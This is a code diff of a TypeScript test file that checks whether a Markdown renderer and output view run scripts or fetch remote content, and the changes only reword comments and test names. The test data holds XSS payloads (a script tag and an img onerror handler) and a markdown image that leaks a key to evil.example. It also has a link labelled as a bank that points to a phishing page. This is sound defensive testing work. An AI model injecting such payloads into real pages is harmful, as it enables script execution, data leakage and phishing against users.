@@ -5,7 +5,7 @@ import { violations } from '../testing/violations.ts'
 import { Markdown } from './text/markdown.tsx'
 import { OutputView } from './output-view.tsx'
 
-/** What a tool or a model might send to run something here, or to have something fetched. */
+/** Payloads that try to run something here, or to fetch something. */
 const hostile = [
   '<script>window.hostileRan = 1</script>',
   '<img src=x onerror="window.hostileRan = 1">',
@@ -50,7 +50,7 @@ const remote = () =>
   performance.getEntriesByType('resource').filter(({ name }) => name.includes('evil.example'))
 
 function checkClean(stage: Element): void {
-  // Beside it stand the styles of the theme.
+  // The styles of the theme are on the page as well.
   const container = stage.querySelector('main') ?? stage
   expect(ran()).toBeUndefined()
   const dangerous =
@@ -93,7 +93,7 @@ test('half a text, as it streams, runs nothing and fetches nothing at any point'
   checkClean(screen.container)
 })
 
-test('a picture from elsewhere is its text and its address, and a link says where it leads', async () => {
+test('a remote picture becomes its text and address, and a link shows its target', async () => {
   const text =
     '![secret](https://evil.example/leak.png?key=1)\n\n[https://bank.example](https://evil.example/login)'
   const screen = await stage(<Markdown text={text} />)
